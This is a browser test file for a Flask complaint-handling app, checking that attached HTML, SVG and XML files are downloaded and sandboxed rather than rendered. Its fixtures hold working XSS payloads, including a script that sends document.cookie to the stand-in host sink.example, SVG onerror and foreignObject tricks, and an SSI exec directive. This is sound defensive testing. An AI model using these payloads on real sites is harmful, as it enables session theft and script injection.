"""Files that are pages, by the form and by mail: a browser saves each of them and runs none.

K-10 and K-11 of the incidents elsewhere. That the files would run is shown first.
"""

from collections.abc import Iterator
from datetime import datetime
from email.message import EmailMessage
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from flask import Flask
from playwright.sync_api import Browser, BrowserContext, Page, expect
from sqlalchemy import select

from app.database import db
from app.models import Attachment, Case, RawMail
from app.postbox import accept
from tests.web.seats import an_office_at_work, open_browser
from tests.web.visitors import TOLD

SCRIPT = "alert(document.domain);fetch('http://sink.example/'+document.cookie)"
PAGE = f'<html><body onload="{SCRIPT}"><img src=http://sink.example/x.png></body></html>'
SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{}</svg>'
XHTML = "http://www.w3.org/1999/xhtml"
INNER = "PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJy8+"
FILES = {
    "page.html": ("text/html", PAGE),
    "page.htm": ("text/html", PAGE),
    "page.xhtml": ("application/xhtml+xml",
                   f'<html xmlns="{XHTML}"><body><script>{SCRIPT}</script></body></html>'),
    "script.svg": ("image/svg+xml", SVG.format(f"<script>{SCRIPT}</script>")),
    "foreign.svg": ("image/svg+xml", SVG.format(
        f'<foreignObject><body xmlns="{XHTML}"><script>{SCRIPT}</script></body></foreignObject>')),
    "use.svg": ("image/svg+xml", SVG.format(
        f'<use xlink:href="data:image/svg+xml;base64,{INNER}#x"/><image href="x" '
        f'onerror="{SCRIPT}"/>')),
    "page.xml": ("text/xml", f'<x><script xmlns="{XHTML}">{SCRIPT}</script></x>'),
    "page.mht": ("multipart/related", f"MIME-Version: 1.0\nContent-Type: text/html\n\n{PAGE}"),
    "page.shtml": ("text/html", f'<!--#exec cmd="id" -->{PAGE}'),
    "page.txt": ("text/html", PAGE),  # labelled as what it is, named as what it is not
}  # fmt: skip
LIVE = ("page.html", "page.xhtml", "script.svg", "foreign.svg", "use.svg", "page.xml")


@pytest.fixture
def office(app: Flask, now: datetime, live_server: str) -> Flask:
    """An office with people at their desks, on a real port."""
    an_office_at_work(app, now)
    return app


def watch(context: BrowserContext, home: str) -> list[str]:
    """What any page of the context does that it should not, as it happens."""
    odd: list[str] = []
    context.on("dialog", lambda said: (odd.append(f"dialog: {said.message}"), said.dismiss()))
    context.on("request", lambda asked: odd.append(asked.url)
               if urlsplit(asked.url).netloc not in ("", home) else None)  # fmt: skip
    return odd


@pytest.fixture
def page(office: Flask, browser: Browser) -> Iterator[tuple[Page, list[str]]]:
    """The desk of a manager, and whatever it does that it should not."""
    desk = open_browser(office, browser, "boss")
    yield desk, watch(desk.context, urlsplit(office.config["BASE_URL"]).netloc)
    desk.context.close()


def by_form(app: Flask, browser: Browser) -> str:
    """A visitor sends them all with the public form; the reference."""
    context = browser.new_context(base_url=app.config["BASE_URL"])
    visitor = context.new_page()
    visitor.goto("/new/complaint")
    visitor.locator("input[name=anonymous][value=no]").check()
    for name in ("subject", "body", "name", "email"):
        visitor.locator(f"#{name}").fill(TOLD[name])
    visitor.get_by_role("button", name="ตรวจทานก่อนส่ง").click()
    visitor.locator("input[type=file]").set_input_files(
        [{"name": name, "mimeType": kind, "buffer": content.encode()}
         for name, (kind, content) in FILES.items()]
    )  # fmt: skip
    visitor.get_by_role("button", name="ส่งเรื่อง").click()
    expect(visitor.get_by_role("heading", level=1)).to_contain_text("รับเรื่องของท่านแล้ว")
    context.close()
    with app.app_context():
        return str(db.session.scalars(select(Case.reference)).one())


def by_mail(app: Flask, now: datetime) -> str:
    """A mail brings them, one of them as a picture within; the reference."""
    mail = EmailMessage()
    mail["From"], mail["Subject"], mail["To"] = "a@example.org", "ไฟล์แนบ", "office@oie.example"
    mail.set_content("ดูไฟล์แนบ")
    drawn = SVG.format(f"<script>{SCRIPT}</script>")
    mail.add_alternative(f'<p>ดูภาพ <img src="cid:one" alt="แผนผัง"></p>{drawn}', subtype="html")
    mail.get_payload()[1].add_related(
        FILES["script.svg"][1].encode(), "image", "svg+xml", cid="<one>", filename="within.svg"
    )
    for name, (kind, content) in FILES.items():
        main, _, sub = ("text/html" if kind.startswith("multipart") else kind).partition("/")
        mail.add_attachment(content.encode(), main, sub, filename=name)
    with app.app_context():
        kept = accept.keep(mail.as_bytes(), now)
        assert accept.read(kept, now) == "done"
        born = db.session.get_one(RawMail, kept).case_id
        return db.session.get_one(Case, born).reference


def test_the_files_of_this_test_would_run_if_a_browser_opened_them(
    browser: Browser, tmp_path: Path
) -> None:
    context = browser.new_context()
    said: list[str] = []
    context.on("dialog", lambda box: (said.append(box.page.url), box.dismiss()))
    for name in LIVE:
        (tmp_path / name).write_text(FILES[name][1])
        context.new_page().goto((tmp_path / name).as_uri())
    context.close()
    assert {url.rpartition("/")[2] for url in said} == set(LIVE)


@pytest.mark.parametrize("door", ["form", "mail"])
def test_every_file_that_is_a_page_is_saved_and_runs_nowhere(
    office: Flask, browser: Browser, now: datetime, page: tuple[Page, list[str]], door: str
) -> None:
    desk, odd = page
    reference = by_form(office, browser) if door == "form" else by_mail(office, now)
    desk.goto(f"/desk/cases/{reference}")
    links = desk.locator("a[href^='/files/']")
    names = set(FILES) | ({"within.svg"} if door == "mail" else set())
    assert links.count() == len(names)
    saved = set()
    for link in links.all():
        url = link.get_attribute("href")
        with desk.expect_download() as download:
            link.click()
        saved.add(download.value.suggested_filename)
        _is_shut_in(desk, str(url))
    assert saved == names
    assert desk.url.endswith(reference)  # no page was left for one of theirs
    assert odd == []


def _is_shut_in(desk: Page, url: str) -> None:
    """What a browser is told of the file, whoever opens it however."""
    answer = desk.request.get(url)
    headers = answer.headers
    assert answer.ok
    assert headers["content-disposition"].startswith("attachment;")
    assert headers["content-type"] in ("application/octet-stream", "text/plain")
    assert headers["content-security-policy"] == "default-src 'none'; sandbox"
    assert headers["x-content-type-options"] == "nosniff"
    assert "set-cookie" not in headers


def test_a_drawing_within_a_mail_is_named_as_left_out(
    office: Flask, now: datetime, page: tuple[Page, list[str]]
) -> None:
    desk, odd = page
    reference = by_mail(office, now)
    desk.goto(f"/desk/cases/{reference}")
    desk.locator("a[href*='/mail/']").first.click()
    expect(desk.locator("body")).to_contain_text("ไม่แสดงภาพ / image left out: แผนผัง")
    assert desk.locator("img, svg, script, object, iframe, foreignObject").count() == 0
    assert odd == []
    with office.app_context():
        kept = db.session.scalars(select(Attachment.name)).all()
    assert sorted(kept) == sorted({*FILES, "within.svg"})
